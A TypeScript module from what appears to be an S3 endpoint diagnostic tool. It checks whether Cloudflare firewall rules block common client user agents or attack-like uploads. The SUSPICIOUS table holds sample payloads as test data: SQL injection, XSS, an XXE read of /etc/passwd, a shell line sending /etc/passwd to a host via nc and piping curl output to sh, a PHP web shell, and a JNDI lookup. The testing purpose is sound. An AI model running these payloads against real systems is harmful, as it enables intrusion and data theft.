/** Whether a firewall or bot protection refuses S3 clients, or what they send. */
import { explain } from "../blame.ts";
import { type Check, fail, ok } from "../check.ts";
import { inGroups } from "../groups.ts";
import type { S3Request, World } from "../world.ts";

const AGENTS: Readonly<Record<string, string>> = {
  "AWS CLI":
    "aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.7 md/pyimpl#CPython m/b,E,Z,n cfg/retry-mode#standard",
  boto3: "Boto3/1.40.40 md/Botocore#1.40.40 ua/2.1 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.3",
  "AWS SDK for JavaScript": "aws-sdk-js/3.900.0 ua/2.1 os/linux#6.8.0 lang/js md/nodejs#22.20.0 api/s3#3.900.0 m/N,E,e",
  "AWS SDK for Go": "aws-sdk-go-v2/1.39.0 ua/2.1 os/linux lang/go#1.25.1 md/GOOS#linux md/GOARCH#amd64 api/s3#1.88.0",
  "AWS SDK for Java": "aws-sdk-java/2.34.0 md/io#sync md/http#Apache ua/2.1 os/Linux#6.8.0 lang/java#21.0.8",
  "AWS SDK for Rust": "aws-sdk-rust/1.3.9 ua/2.1 api/s3/1.108.0 os/linux lang/rust/1.90.0",
  Terraform: "APN/1.0 HashiCorp/1.0 Terraform/1.13.3 (+https://www.terraform.io) terraform-provider-aws/6.14.0",
  rclone: "rclone/v1.71.1",
  s3cmd: "s3cmd/2.4.0",
  "MinIO client": "MinIO (linux; amd64) minio-go/v7.0.95 mc/RELEASE.2025-08-13T08-35-41Z",
  curl: "curl/8.16.0",
  "Go's own client": "Go-http-client/1.1",
  "Python requests": "python-requests/2.32.5",
  Java: "Java/21.0.8",
  "a client without a name": "",
};

const BLOCK_REMEDY =
  'Cloudflare\'s dashboard, Security > Settings: turn "Bot fight mode" and "Browser Integrity Check" off for this zone, and Security > ' +
  "Security rules: no rule may match this host. Security > Analytics > Events names what refused a request.";

const userAgents: Check = {
  name: "user-agents",
  sends: "PUTs with the user agents of 14 kinds of clients, and without one",
  expects: "200 for each",
  remedy: BLOCK_REMEDY,
  needs: ["bucket"],
  run: (world) =>
    refusals(
      world,
      Object.entries(AGENTS).map(([name, userAgent], index) => [
        name,
        { method: "PUT", key: `agents/${index}`, body: "x", userAgent },
      ]),
    ),
};

const SUSPICIOUS: Readonly<Record<string, string>> = {
  "SQL text": "SELECT * FROM users WHERE name = '' OR 1=1 --'; DROP TABLE users; UNION SELECT null,@@version",
  "a script tag": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
  "an XML entity": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  "a shell command": "; cat /etc/passwd | nc 192.0.2.1 4444; $(curl http://192.0.2.1/x.sh | sh)",
  PHP: "<?php system($_GET['c']); eval(base64_decode('ZWNobyAxOw==')); ?>",
  "a JNDI lookup": ["$", "{jndi:ldap://192.0.2.1/a}"].join(""),
  "a serialized Java object": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
};

const SUSPICIOUS_KEYS = [
  "wp-login.php",
  ".env",
  ".git/config",
  "etc/passwd",
  "cgi-bin/test.cgi",
  "backup.sql",
  "' or 1=1 --",
  "<script>",
];

const suspicious: Check = {
  name: "unusual-content",
  sends:
    "PUTs of text that resembles attacks (SQL, scripts, XML entities, shell, PHP), of such keys, and a listing with such a prefix",
  expects: "200 for each: an object may contain anything",
  remedy:
    'Cloudflare\'s dashboard, Security > Security rules: a custom rule for this host name with the action "Skip" for all managed rules. ' +
    "Security > Analytics > Events names the rule that refused a request.",
  needs: ["bucket"],
  run(world) {
    const bodies = Object.entries(SUSPICIOUS).map(([name, body], index): [string, S3Request] => [
      name,
      {
        method: "PUT",
        key: `unusual/${index}`,
        body,
        headers: { "content-type": index % 2 === 0 ? "text/plain" : "application/xml" },
      },
    ]);
    const keys = SUSPICIOUS_KEYS.map((key): [string, S3Request] => [
      `the key ${key}`,
      { method: "PUT", key: `unusual/${key}`, body: "x" },
    ]);
    const query = `list-type=2&prefix=${encodeURIComponent("../../etc/passwd' UNION SELECT 1--")}`;
    return refusals(world, [...bodies, ...keys, ["such a prefix", { query: query.replaceAll("'", "%27") }]]);
  },
};

async function refusals(world: World, requests: readonly (readonly [name: string, request: S3Request])[]) {
  const refused = new Map<string, string>();
  let advice: string | undefined;
  await inGroups(requests, async ([name, request]) => {
    const answer = await world.send(request);
    if (answer.status === 200) return;
    const { what, remedy } = explain(answer);
    refused.set(name, what);
    advice ??= remedy;
  });
  if (refused.size === 0) return ok(`${requests.length} requests`);
  const lines = requests.flatMap(([name]) => (refused.has(name) ? [`${name}: ${refused.get(name)}`] : []));
  return fail([`${refused.size} of ${requests.length} are refused`, ...lines].join("\n"), advice);
}

export const FIREWALL: readonly Check[] = [userAgents, suspicious];
